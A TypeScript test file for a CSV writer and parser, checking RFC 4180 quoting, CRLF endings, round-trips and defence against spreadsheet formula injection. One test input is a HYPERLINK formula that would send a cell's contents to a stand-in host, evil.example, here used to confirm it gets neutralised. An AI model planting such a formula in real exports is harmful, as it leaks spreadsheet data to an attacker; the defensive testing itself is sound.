// RFC 4180: fields that need quoting are quoted, quotes doubled, records end in CRLF, and
// whatever is written reads back exactly, except that text a spreadsheet would run as a formula
// reads back behind a single quote (OWASP's "CSV Injection").
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { csvField, csvLine, parseCsv } from "./csv.ts";

describe("csvField", () => {
  it.each([
    ["plain", "plain"],
    ["a,b", '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ["two\nlines", '"two\nlines"'],
    [" padded", '" padded"'],
    ["🎉 emoji", "🎉 emoji"],
  ])("%j → %j", (value, written) => {
    expect(csvField(value)).toBe(written);
  });

  it("writes numbers unformatted, booleans as words and missing values as empty", () => {
    expect([
      csvField(1234567.125),
      csvField(0),
      csvField(false),
      csvField(null),
      csvField(undefined),
    ]).toEqual(["1234567.125", "0", "false", "", ""]);
  });
});

describe("csvField and formulas", () => {
  it.each([
    [
      '=HYPERLINK("http://evil.example/?"&A1,"click")',
      `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`,
    ],
    ["+1+1", `"'+1+1"`],
    ["-2+3", `"'-2+3"`],
    ["@SUM(A1)", `"'@SUM(A1)"`],
    ["\t=1", `"'\t=1"`],
    ["\r=1", `"'\r=1"`],
    ["=", `"'="`],
  ])("neutralises %j as %j", (value, written) => {
    expect(csvField(value)).toBe(written);
  });

  it("leaves numbers, text that is a number, and formulas not at the start alone", () => {
    expect([csvField(-4.5), csvField("-4.5"), csvField("+3"), csvField("1e-3"), csvField("a=b")]).toEqual([
      "-4.5",
      "-4.5",
      "+3",
      "1e-3",
      "a=b",
    ]);
  });
});

describe("csvLine and parseCsv", () => {
  it("end records with CRLF", () => {
    expect(csvLine(["a", 1, null])).toBe("a,1,\r\n");
  });

  it("read back any text exactly, a formula behind its single quote", () => {
    const number = /^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/;
    const asWritten = (field: string) =>
      /^[=+\-@\t\r]/.test(field) && !number.test(field) ? `'${field}` : field;
    fc.assert(
      fc.property(
        fc.array(fc.array(fc.string({ unit: "grapheme" }), { minLength: 2, maxLength: 5 }), {
          minLength: 1,
          maxLength: 5,
        }),
        (records) => {
          const text = records.map((record) => csvLine(record)).join("");
          expect(parseCsv(text)).toEqual(records.map((record) => record.map(asWritten)));
        },
      ),
    );
  });
});
